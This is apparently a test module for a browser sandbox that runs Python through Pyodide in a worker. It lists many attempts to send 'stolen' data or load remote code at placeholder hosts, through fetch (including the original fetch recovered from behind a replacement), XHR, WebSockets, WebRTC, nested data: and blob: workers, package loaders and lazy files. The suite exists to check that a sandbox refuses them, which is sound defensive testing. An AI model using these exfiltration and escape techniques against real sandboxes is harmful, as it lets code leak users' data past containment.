"""Programs that try to send something, by everything that Python and a worker have for it."""

from tests.browser.hostile.program import Program, program

# A nested worker runs JavaScript of its own, so it tries more than Python can.
NESTED = """
import js, time
from urllib.parse import quote
CODE = '''
fetch("AWAY/nested").catch(() => {});
new WebSocket("SOCKET/nested");
try { importScripts("AWAY/nested-script"); } catch {}
import("AWAY/nested-import").catch(() => {});
'''.replace("AWAY", AWAY).replace("SOCKET", SOCKET)
"""


def sending(name: str, *statements: str, setup: str = "import js") -> Program:
    """Return a program that tries each of these statements, whatever the others come to."""
    tries = "".join(
        f"try:\n    {statement}\nexcept BaseException as error: print('refused:', type(error).__name__)\n"
        for statement in statements
    )
    return program(name, f"{setup}\n{tries}", may_run_on=True)


PROGRAMS = [
    sending("fetch", "js.fetch(AWAY + '/fetch')", "js.fetch(SITE + 'stolen')"),
    sending(
        "the true fetch behind the replaced one",
        "js.Object.getPrototypeOf(js.self).fetch(AWAY + '/true')",
        "js.WorkerGlobalScope.prototype.fetch.call(js.self, AWAY + '/prototype')",
        "delattr(js, 'fetch'); js.fetch(AWAY + '/deleted')",
        "js.Reflect.get(js.Reflect.getPrototypeOf(js.Reflect.getPrototypeOf(js.self)), 'fetch')(AWAY + '/reflected')",
    ),
    sending(
        "XMLHttpRequest",
        "request = js.XMLHttpRequest.new(); request.open('GET', AWAY + '/xhr', False); request.send()",
        "request = js.XMLHttpRequest.new(); request.open('POST', SITE + 'stolen', False); request.send('stolen')",
    ),
    sending("WebSocket", "js.WebSocket.new(SOCKET + '/socket')", "js.WebSocketStream.new(SOCKET + '/stream').opened"),
    sending("EventSource", "js.EventSource.new(AWAY + '/events')"),
    sending(
        "WebRTC",
        "js.RTCPeerConnection.new(js.Object.fromEntries([['iceServers', [js.Object.fromEntries([['urls', STUN]])]]]))",
    ),
    sending("WebTransport", "js.WebTransport.new(AWAY.replace('http:', 'https:') + '/transport')"),
    sending("a font", "js.FontFace.new('stolen', f'url({AWAY}/font)').load()"),
    sending("importScripts", "js.importScripts(AWAY + '/script')"),
    sending(
        "a worker from elsewhere",
        "js.Worker.new(AWAY + '/worker')",
        "js.Worker.new(SITE + 'stolen.js')",
        "js.Worker.new('//' + AWAY.partition('//')[2] + '/worker')",
    ),
    program(
        "a nested worker of data:",
        NESTED
        + """
for kind in ("classic", "module"):
    try: js.Worker.new("data:text/javascript," + quote(CODE), type=kind)
    except BaseException as error: print("refused:", type(error).__name__)
time.sleep(0.5)
""",
    ),
    program(
        "a nested worker of blob:",
        NESTED
        + """
from pyodide.ffi import to_js
try:
    blob = js.Blob.new(to_js([CODE]))
    js.Worker.new(js.URL.createObjectURL(blob))
except BaseException as error: print("refused:", type(error).__name__)
time.sleep(0.5)
""",
    ),
    sending("a cache that fetches", "js.caches.open('stolen').then(lambda cache: cache.add(AWAY + '/cache'))"),
    sending(
        "Python's sockets", "socket.create_connection(('127.0.0.1', PORT), 2).send(b'stolen')", setup="import socket"
    ),
    sending(
        "Python's web clients",
        "urllib.request.urlopen(AWAY + '/urllib', timeout=2)",
        "http.client.HTTPConnection('127.0.0.1', PORT, timeout=2).request('GET', '/client')",
        setup="import http.client, urllib.request",
    ),
    sending(
        "Pyodide's web clients",
        "pyodide.http.open_url(AWAY + '/open-url')",
        "pyodide.http.pyfetch(AWAY + '/pyfetch').send(None)",
        "pyodide.http.pyxhr.get(AWAY + '/pyxhr')",
        setup="import pyodide.http",
    ),
    sending(
        "Pyodide's loader",
        "pyodide_js.loadPackage(AWAY + '/stolen-1.0-py3-none-any.whl')",
        "pyodide_js._api.package_loader.loadPackage(AWAY + '/stolen.zip')",
        "pyodide_js._module.loadDynamicLibrary(AWAY + '/stolen.so')",
        setup="import pyodide_js",
    ),
    sending(
        "a file of Emscripten's that is fetched when read",
        "pyodide_js.FS.createLazyFile('/tmp', 'lazy', AWAY + '/lazy', True, False)",
        "print(open('/tmp/lazy').read())",
        setup="import pyodide_js",
    ),
    sending(
        "a report that the browser sends",
        "js.reportError(js.Error.new(AWAY + '/report'))",
        "js.Response.redirect(AWAY + '/redirect')",
        "js.location = AWAY + '/location'",
        "js.location.href = AWAY + '/location'",
        "js.open(AWAY + '/open')",
    ),
]
